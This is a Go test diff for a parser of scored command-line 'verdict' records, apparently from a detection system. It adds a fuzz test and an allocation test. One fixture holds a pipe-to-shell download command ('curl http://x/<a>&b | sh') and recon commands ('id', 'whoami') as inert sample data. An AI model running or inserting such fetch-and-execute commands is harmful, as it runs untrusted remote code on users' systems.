@@ -113,6 +113,34 @@ func FuzzDecodeVerdict(f *testing.F) {
 	})
 }
 
+// FuzzScanVerdict pins ScanVerdict to DecodeVerdict, on the line
+// AppendVerdict writes for the fields and on arbitrary bytes: it accepts a
+// line if and only if DecodeVerdict does, and then its time and
+// context_score are bit-equal to the decoded ones. The seeds are
+// FuzzDecodeVerdict's, plus a context, an escaped user, an overflowing
+// line_score, and lines both must reject where the scanner skips work: a
+// bad escape, a short \u escape, a raw control byte, and a session_score
+// of 1.8e308, just past the float64 maximum.
+func FuzzScanVerdict(f *testing.F) {
+	f.Fuzz(func(t *testing.T, user string, time int64, line, context string, ls, cs, ss float64, n int, la, sa bool, raw []byte) {
+		v := stream.Verdict{User: user, Time: time, Line: line, Context: context,
+			LineScore: ls, ContextScore: cs, SessionScore: ss, SessionLines: n, LineAlert: la, SessionAlert: sa}
+		enc, _ := AppendVerdict(nil, &v)
+		for _, b := range [][]byte{bytes.TrimSuffix(enc, []byte("\n")), raw} {
+			var want stream.Verdict
+			decoded := DecodeVerdict(b, &want)
+			tm, score, ok := ScanVerdict(b)
+			if ok != decoded {
+				t.Fatalf("ScanVerdict(%q) ok = %v, DecodeVerdict ok = %v", b, ok, decoded)
+			}
+			if ok && (tm != want.Time || math.Float64bits(score) != math.Float64bits(want.ContextScore)) {
+				t.Fatalf("ScanVerdict(%q) = %d, %v; DecodeVerdict time %d, context_score %v",
+					b, tm, score, want.Time, want.ContextScore)
+			}
+		}
+	})
+}
+
 // sameVerdict is == with floats compared bit for bit, so -0 and 0 differ.
 func sameVerdict(a, b stream.Verdict) bool {
 	return a == b && math.Float64bits(a.LineScore) == math.Float64bits(b.LineScore) &&
@@ -179,5 +207,23 @@ func TestAppendAllocs(t *testing.T) {
 	}
 	if n := testing.AllocsPerRun(100, func() { buf, _ = AppendVerdict(buf[:0], &v) }); n != 0 {
 		t.Errorf("AppendVerdict: %v allocs/op, want 0", n)
+	}
+}
+
+// ScanVerdict allocates nothing, on escaped strings and exponent-form
+// floats too.
+func TestScanVerdictAllocs(t *testing.T) {
+	v := stream.Verdict{User: `eve,"<root>"`, Time: 1_700_000_000, Line: `curl http://x/<a>&b | sh`, Context: "id\nwhoami",
+		LineScore: 0.25, ContextScore: 1e-7, SessionScore: 3e21, SessionLines: 4, LineAlert: true}
+	enc, err := AppendVerdict(nil, &v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	line := enc[:len(enc)-1]
+	if tm, score, ok := ScanVerdict(line); !ok || tm != v.Time || score != v.ContextScore {
+		t.Fatalf("ScanVerdict(%q) = %d, %v, %v", line, tm, score, ok)
+	}
+	if n := testing.AllocsPerRun(100, func() { ScanVerdict(line) }); n != 0 {
+		t.Errorf("ScanVerdict: %v allocs/op, want 0", n)
 	}
 }
